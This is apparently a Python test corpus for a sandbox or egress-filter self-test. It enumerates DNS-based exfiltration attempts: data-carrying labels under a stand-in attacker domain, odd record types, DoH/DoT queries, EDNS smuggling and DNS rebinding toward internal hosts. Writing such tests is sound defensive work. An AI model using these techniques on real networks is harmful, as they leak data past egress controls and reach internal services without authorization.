"""Attempts to send data, or to find a way, by the names that are asked for."""

from __future__ import annotations

from stockade.selftest.corpus.attempt import Attempt, asking, get
from stockade.selftest.hosts import ADDRESSES, API, DATABASE, EVIL, TCP_PORT, TURNING
from stockade.selftest.names import MIXED

_LONG = ".".join(["{mark}" + "a" * 57] * 3)  # 63 octets each: the most that RFC 1035 allows
_KINDS = {
    "A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28,
    "SRV": 33, "HTTPS": 65, "ANY": 255, "AXFR": 252, "private use": 65280,
}  # fmt: skip
_RESOLVERS = (
    "8.8.8.8",
    "1.1.1.1",
    "9.9.9.9",
    "127.0.0.53",
    ADDRESSES[EVIL],
    "2606:4700:4700::1111",
)
_NAMES = {
    "long labels": f"{_LONG}.{EVIL}",
    "data before a granted name": "{mark}.secret-data." + API,
    "long data before a granted name": f"{_LONG}.{API}",
    "granted name as a label": f"{API}.{{mark}}.{EVIL}",
    "base32 in two labels": "{mark}mfrggzdfmztwq2lk.nnwg23tpobyxe43u." + EVIL,
    "bytes that are no text": "\xff\xfe{mark}\x00\x01." + EVIL,
    "a dot within a label": "{mark}\x00" + API.replace(".", "\x2e") + "." + EVIL,
    "mixed case": "{mark}.EvIl.ExAmPlE.nEt",
    "underscores": "_{mark}._tcp." + EVIL,
    "reverse": "{mark}.66.216.184.93.in-addr.arpa",
}
_DOH = "?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQNuZXQAAAEAAQ&m={mark}"
_DOH_HOSTS = ("dns.google", "cloudflare-dns.com", "dns.quad9.net", "8.8.8.8", "1.1.1.1")


def _ask(name: str, asked: str, kind: int = 1, **more: str | int) -> Attempt:
    return Attempt("DNS", name, "question", {"name": asked, "kind": kind, **more})


ATTEMPTS = [
    *(_ask(name, asked) for name, asked in _NAMES.items()),
    *(_ask(f"type {name}", "{mark}." + EVIL, kind) for name, kind in _KINDS.items()),
    *(
        _ask(f"type {name} of a granted name", API, kind)
        for name, kind in _KINDS.items()
        if name in ("NULL", "TXT", "ANY", "AXFR")
    ),
    *(_ask(f"to {server}", "{mark}." + EVIL, server=server) for server in _RESOLVERS),
    *(
        _ask(f"over TCP to {server}", "{mark}." + EVIL, server=server, over="tcp")
        for server in _RESOLVERS[:5]
        if not server.startswith("127.")
    ),
    _ask("bytes after the question", API, more="{mark} and more"),
    _ask("data in EDNS", API, more="\0\0\x29\x04\xd0\0\0\0\0\0\x0a\xfd\xe9\0\x06{mark}", records=1),
    Attempt("DNS", "by the system's resolver", "resolve", {"name": "{mark}." + EVIL}),
    *(
        Attempt("DoH and DoT", f"DoH to {host}", "fetch", {"url": f"https://{host}/dns-query{_DOH}"})
        for host in _DOH_HOSTS
    ),
    asking(
        "DoH and DoT",
        "DoH by Host over a granted connection",
        get(f"/dns-query{_DOH}", host="dns.google"),
    ),
    *(
        Attempt("DoH and DoT", f"DoT to {host}", "talk",
                {"host": host, "port": 853, "text": "\0\x1d{mark}", "tls": "dns.google"})
        for host in ("8.8.8.8", "1.1.1.1")
    ),
    *(
        Attempt("rebinding", f"a name that turns inside, time {time}", "fetch",
                {"url": f"https://{TURNING}/public/{{mark}}"})
        for time in range(1, 5)
    ),
    *(
        Attempt("rebinding", f"{name}, time {time}", "talk",
                {"host": host, "port": port, "text": "{mark}"})
        for time in (1, 2)
        for name, host, port in (
            ("a name that turns inside, by TCP", TURNING, TCP_PORT),
            ("public and private at once", MIXED, TCP_PORT),
        )
    ),
    Attempt("rebinding", "the address of another name", "talk",
            {"host": TURNING, "port": 443, "tls": API, "text": get("/public/{mark}")}),
    Attempt("rebinding", "web by a database's address", "fetch",
            {"url": f"https://{DATABASE}/public/{{mark}}"}),
]  # fmt: skip
